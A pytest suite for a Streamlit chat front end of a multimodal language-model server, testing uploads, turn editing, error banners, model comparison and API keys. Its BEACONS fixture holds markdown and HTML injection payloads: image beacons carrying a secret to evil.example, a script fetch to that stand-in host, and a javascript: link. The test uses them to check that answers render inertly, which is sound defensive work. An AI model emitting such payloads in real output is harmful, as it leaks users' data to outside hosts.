"""The chat page, driven by Streamlit's AppTest against a real server over a tiny real model."""

from __future__ import annotations

import base64
from collections.abc import AsyncGenerator, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from mmllm.generation.generator import Generator
from mmllm.serving.access import Access
from mmllm.serving.app import create_app
from mmllm.serving.keys import KeyFile, add_key
from mmllm.serving.media import Limits
from mmllm.types import Message, Sample
from serve.client import Answer
from serve.page.conversation import Turn
from serve.page.saving import exported
from tests.support.places import ROOT
from tests.support.senses import FILES, every_sense
from tests.support.serving import MODEL, file_bytes, picture, running, tiny_generator

PAGE = ROOT / "streamlit_app.py"
RED = file_bytes(picture("red"))


@pytest.fixture(scope="module")
def server(generator: Generator) -> Iterator[str]:
    with running(create_app(generator, MODEL, Limits(max_images=2, max_body=200_000))) as url:
        yield url


@pytest.fixture
def page(server: str, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    monkeypatch.setenv("MMLLM_SERVER", server)
    page = AppTest.from_file(str(PAGE), default_timeout=30).run()
    assert not page.exception
    page.number_input("max_tokens").set_value(6)
    return page


def ask(page: AppTest, text: str, *files: tuple[str, bytes, str]) -> AppTest:
    for file in files:
        page.chat_input("ask").upload(*file)
    page.chat_input("ask").set_value(text).run()
    assert not page.exception
    return page


def answer(generator: Generator, *messages: Message, images: tuple[Any, ...] = (), **sampling: Any) -> str:
    sample = Sample("x", messages, {"image": images} if images else {})
    return "".join(piece.text for piece in generator.stream(sample, 6, **sampling))


def turns(page: AppTest) -> list[Turn]:
    return page.session_state["conversation"].turns


def said(page: AppTest, number: int = -1) -> str:
    """The answer to a question."""
    (reply,) = turns(page)[number].replies
    return reply.text


def test_the_page_offers_the_servers_models(page: AppTest, server: str) -> None:
    assert page.selectbox("model").options == [MODEL] and page.selectbox("model").value == (server, MODEL)
    assert "256 tokens" in page.sidebar.caption[0].value
    assert page.info[0].value.startswith("Attach an image") and not page.error
    assert len(page.main.markdown) == 0  # nothing of the source is written onto the page
    assert page.number_input("max_tokens").max == 255  # a token of the context is the question's at least


def test_an_image_a_question_and_one_that_follows(page: AppTest, generator: Generator) -> None:
    ask(page, "What?", ("red.png", RED, "image/png"))
    asked = Message("user", "<image>\nWhat?")
    first = answer(generator, asked, images=(picture("red"),))
    assert len(turns(page)) == 1 and said(page) == first
    assert [message.name for message in page.chat_message] == ["user", "assistant"]
    assert page.chat_message[0].text[0].value == "What?"
    note = page.chat_message[1].caption[0].value
    assert "first token" in note and "6 tokens" in note and "tokens/s" in note and "prompt" in note
    ask(page, "And now?")
    second = answer(
        generator, asked, Message("assistant", first), Message("user", "And now?"), images=(picture("red"),)
    )
    assert said(page) == second and len(page.chat_message) == 4 and not page.error


def test_options_reach_the_model(page: AppTest, generator: Generator) -> None:
    page.slider("temperature").set_value(2.0)
    page.slider("top_p").set_value(0.9)
    page.number_input("seed").set_value(3)
    ask(page, "Hi")
    assert said(page) == answer(generator, Message("user", "Hi"), temperature=2.0, top_p=0.9, seed=3)


def test_an_answer_is_no_longer_than_the_context_has_room_for(page: AppTest, generator: Generator) -> None:
    page.number_input("max_tokens").set_value(255)
    asked = ("cat " * 230).strip()
    ask(page, asked)
    sample = Sample("x", (Message("user", asked),))
    room = 256 - len(generator.encode(sample).ids)
    assert not page.error and said(page) == "".join(piece.text for piece in generator.stream(sample, room))


def test_a_turn_is_edited_regenerated_and_deleted(page: AppTest, generator: Generator) -> None:
    ask(page, "Hi", ("red.png", RED, "image/png"))
    ask(page, "Ho")
    first, second = (turn.ident for turn in turns(page))
    old = said(page)
    page.button(f"refresh-{second}").click().run()
    assert said(page) != old and len(turns(page)) == 2  # drawn, where the likeliest was there
    assert all(button.key != f"refresh-{first}" for button in page.button)  # what follows builds on it
    page.button(f"edit-{first}").click().run()
    assert page.text_area(f"text-{first}").value == "Hi"
    page.text_area(f"text-{first}").set_value("Hello")
    page.multiselect(f"files-{first}").set_value([])
    next(one for one in page.button if one.label == "Ask anew").click().run()
    assert [turn.question for turn in turns(page)] == ["Hello"] and not turns(page)[0].uploads
    assert said(page) == answer(generator, Message("user", "Hello")) and not page.exception
    page.button(f"delete-{first}").click().run()
    assert turns(page) == [] and len(page.chat_message) == 0


def test_new_chat_begins_another(page: AppTest) -> None:
    ask(page, "Hi")
    kept = page.session_state["conversation"]
    page.button("clear").click().run()
    assert turns(page) == [] and len(page.chat_message) == 0 and page.info
    assert [one["title"] for one in page.session_state["store"].conversations] == ["Hi"]
    shown = f"data:image/png;base64,{base64.b64encode(RED).decode()}"
    task = {"type": "task", "task": "crop", "text": "it", "places": [{"numbers": [1, 2, 3, 4]}]}
    kept.turns[0].replies[0].tags = [{**task, "result": {"picture": shown, "from": "http://x.y/z"}}]
    data = exported(kept).encode()
    page.file_uploader("import0").upload("chat.json", data, "application/json").run()
    assert [turn.question for turn in turns(page)] == ["Hi"] and said(page) == kept.turns[0].replies[0].text
    assert any("crop: it" in one.value and "1.0, 2.0, 3.0, 4.0" in one.value for one in page.caption)
    (tree,) = [one.proto.body for one in page.get("html") if "http://x.y/z" in one.proto.body]
    assert "href" not in tree and "base64" not in tree  # what is a picture is drawn, an address stays text
    page.file_uploader("import1").upload("chat.json", b"{}", "application/json").run()
    assert "holds no conversation" in page.error[0].value and len(turns(page)) == 1
    assert not page.exception


@pytest.mark.parametrize(
    ("text", "files", "words"),
    [
        ("cat " * 400, (), ("over the context of 256", "Start a new chat")),
        ("What is <image> here?", (), ("marks the place of media",)),
        ("?", (("a.png", b"no image", "image/png"),), ("a.png is not an image", "webp")),
        ("?", (("a.png", RED, "image/png"),) * 3, ("at most 2",)),
        ("x" * 250_000, (), ("200000 bytes", "fewer or smaller")),
    ],
)
def test_a_question_with_a_fault_stays_until_it_is_mended(
    page: AppTest, text: str, files: tuple[Any, ...], words: tuple[str, ...]
) -> None:
    ask(page, "Hi")
    ask(page, text.strip(), *files)
    (banner,) = page.error
    assert all(word in banner.value.replace("\\", "") for word in words), banner.value
    assert "chatcmpl" not in banner.value
    failed = turns(page)[1]
    assert failed.question == text.strip() and len(failed.uploads) == len(files)
    ask(page, "Ho")  # what was not answered is not told
    assert len(turns(page)) == 3 and said(page) and len(page.error) == 1
    page.button(f"edit-{failed.ident}").click().run()
    page.text_area(f"text-{failed.ident}").set_value("Mended")
    if files:
        page.multiselect(f"files-{failed.ident}").set_value([])
    next(one for one in page.button if one.label == "Ask anew").click().run()
    assert [turn.question for turn in turns(page)] == ["Hi", "Mended"] and said(page) and not page.error


def test_without_a_server_the_page_says_how_to_start_one(monkeypatch: pytest.MonkeyPatch, server: str) -> None:
    monkeypatch.setenv("MMLLM_SERVER", "http://127.0.0.1:9")
    page = AppTest.from_file(str(PAGE), default_timeout=30).run()
    assert not page.exception and "mmllm serve" in page.error[0].value and not page.info
    assert page.chat_input("ask").disabled and page.selectbox("model").disabled
    page.text_input("server").set_value(f"{server}/v1/").run()
    assert not page.error and page.selectbox("model").value == (server, MODEL)


def test_two_models_side_by_side(page: AppTest, generator: Generator, server: str) -> None:
    other = tiny_generator(seed=1)
    with running(create_app(other, "other")) as url:
        page.button("add_server").click().run()
        page.text_input("server1").set_value(url).run()
        assert [option.split(" at ")[0] for option in page.selectbox("model").options] == [MODEL, "other"]
        page.toggle("compare").set_value(True).run()
        assert page.selectbox("second").value == (url, "other")
        ask(page, "Hi")
        ask(page, "Ho")
        assert not page.error
        for column, one in enumerate((generator, other)):
            first = answer(one, Message("user", "Hi"))
            then = answer(one, Message("user", "Hi"), Message("assistant", first), Message("user", "Ho"))
            assert [turn.replies[column].text for turn in turns(page)] == [first, then]  # each builds on its own
        captions = [caption.value for caption in page.chat_message[3].caption]
        assert captions[0] == MODEL and captions[2] == "other" and "tokens/s" in captions[1] and captions[3]
    page.session_state["cards"] = {}
    ask(page, "Gone?")  # one server ended: its column says so, the other answers
    assert "No server answers" in page.error[0].value and said(page)


# ---- other senses


@pytest.fixture(scope="module")
def senses() -> Iterator[str]:
    with running(create_app(every_sense(), MODEL, Limits(max_files=2, max_body=300_000))) as url:
        yield url


@pytest.fixture
def wide_page(senses: str, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    """The page of a model with every sense."""
    monkeypatch.setenv("MMLLM_SERVER", senses)
    page = AppTest.from_file(str(PAGE), default_timeout=30).run()
    assert not page.exception
    page.number_input("max_tokens").set_value(6)
    return page


def test_what_may_be_attached_follows_the_model(wide_page: AppTest) -> None:
    taken = set(wide_page.chat_input("ask").proto.file_type)
    assert {".mp4", ".wav", ".json", ".npy", ".txt", ".png"} <= taken and ".exe" not in taken
    assert "an image, a video, a sound, a graph, a point cloud or a document" in wide_page.info[0].value


@pytest.mark.parametrize(
    ("modality", "facts"),
    [
        ("video", "clip.mp4: video of 2.8 s, 48 x 32 pixels"),
        ("audio", "tone.wav: sound of 0.5 s"),
        ("graph", "chain.json: graph of 3 nodes and 2 edges; about node 1"),
        ("points", "sheet.npy: point cloud of 40 points"),
        ("document", "letter.txt: document of 24 words"),
    ],
)
def test_each_sense_is_shown_and_answered(wide_page: AppTest, modality: str, facts: str) -> None:
    name, data = FILES[modality]
    ask(wide_page, "What?", (name, data, "application/octet-stream"))
    assert not wide_page.error and "first token" in turns(wide_page)[0].replies[0].note
    message = wide_page.chat_message[0]
    assert message.text[0].value.startswith(facts) and message.text[1].value == "What?"
    (upload,) = turns(wide_page)[0].uploads
    shown = wide_page.session_state["previews"][upload.digest]
    captions = [caption for caption, _ in shown.pictures]
    assert captions == {"video": ["0.00 s", "0.50 s", "1.00 s", "1.75 s", "2.25 s", "2.75 s"], "document": []}.get(
        modality, [""]
    )
    assert all(picture.startswith(b"\x89PNG") for _, picture in shown.pictures)
    kinds = [child.type for child in message.children.values()]
    between = {"audio": ["image", "audio"], "document": ["code"], "video": ["flex_container"]}.get(modality, ["image"])
    assert kinds == ["text", *between, "text", "flex_container"]
    ask(wide_page, "And now?")
    assert len(turns(wide_page)) == 2 and wide_page.chat_message[0].text[0].value.startswith(facts)


def test_several_senses_in_one_question(wide_page: AppTest) -> None:
    files = [(name, data, "application/octet-stream") for name, data in FILES.values()]
    ask(wide_page, "What?", ("red.png", RED, "image/png"), *files)
    assert not wide_page.error and len(turns(wide_page)[0].uploads) == 6 and said(wide_page)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("a.mp4", b"no video", "a.mp4: Video 1 is not a video that can be read"),
        ("a.mp4", FILES["video"][1][:80], "a.mp4: "),
        ("a.wav", b"RIFF", "a.wav: Sound 1 is not a sound that can be read"),
        ("a.json", b"{", "a.json: The graph is not JSON"),
        ("a.npy", FILES["points"][1] + b"BROKEN", "the file is broken inside"),
    ],
)
def test_a_file_that_cannot_be_read_is_a_banner(wide_page: AppTest, name: str, data: bytes, words: str) -> None:
    ask(wide_page, "Hi")
    ask(wide_page, "What?", (name, data, "application/octet-stream"))
    (banner,) = wide_page.error
    assert words in banner.value.replace("\\", "") and turns(wide_page)[1].uploads[0].data == data
    ask(wide_page, "Ho")
    assert said(wide_page) and len(wide_page.error) == 1


def test_files_that_are_no_images_are_not_taken(page: AppTest) -> None:
    assert set(page.chat_input("ask").proto.file_type) == {".png", ".jpg", ".jpeg", ".webp", ".gif", ".bmp"}


# ---- what an answer may do

BEACONS = """Look: ![x](http://evil.example/b?secret=1) and ![y][r], [click](http://evil.example/c), [r], <http://evil.example/d>

[r]: http://evil.example/e "t"

<img src='http://evil.example/f'> <script>fetch('http://evil.example/g')</script> [j](javascript:alert(1))

```html" onload="x
<img src=http://evil.example/h>
```

| a | b |
|---|---|
| ![z](//evil.example/i) | **bold** `a[0](x)` |

&lt;img src=http://evil.example/j&gt; \\<img src=k> :material/home: $\\href{http://evil.example/l}{x}$
"""


class Tags(HTMLParser):
    """All tags of a page and their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def test_nothing_in_an_answer_reaches_the_network(page: AppTest, monkeypatch: pytest.MonkeyPatch) -> None:
    async def says(self: Answer) -> AsyncGenerator[str]:
        self.finish = "stop"
        for letter in BEACONS:
            self.text += letter
            yield letter

    monkeypatch.setattr(Answer, "deltas", says)
    ask(page, "Hi")
    page.run()  # once as it arrives, once out of the history
    drawn = page.chat_message[1].get("html")
    assert len(drawn) == 1 and not page.chat_message[1].markdown
    found = Tags(drawn[0].proto.body)
    assert found.tags <= {"div", "p", "br", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "strong", "em"}
    assert found.attributes <= {"class", "style"}
    for written in ("![x](http://evil.example/b?secret=1)", "[click](http://evil.example/c)", "<script>", "a[0](x)"):
        assert written in found.text


def test_a_server_with_keys_asks_the_page_for_one(
    generator: Generator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = add_key(tmp_path / "keys.yaml", "alice")
    with running(create_app(generator, MODEL, access=Access(keys=KeyFile(tmp_path / "keys.yaml")))) as url:
        monkeypatch.setenv("MMLLM_SERVER", url)
        page = AppTest.from_file(str(PAGE), default_timeout=30).run()
        assert "API key is needed" in page.error[0].value and page.chat_input("ask").disabled
        page.text_input("key").set_value(key).run()
        ask(page, "Hi")
        assert said(page) and not page.error
        monkeypatch.setenv("MMLLM_KEY", key)  # of the page's own, which no browser is shown
        page = AppTest.from_file(str(PAGE), default_timeout=30).run()
        assert not page.error and page.text_input("key").value == ""
        with running(create_app(generator, MODEL, access=Access(keys=KeyFile(tmp_path / "keys.yaml")))) as other:
            page.text_input("server").set_value(other).run()
            assert "API key is needed" in page.error[0].value  # nor another server
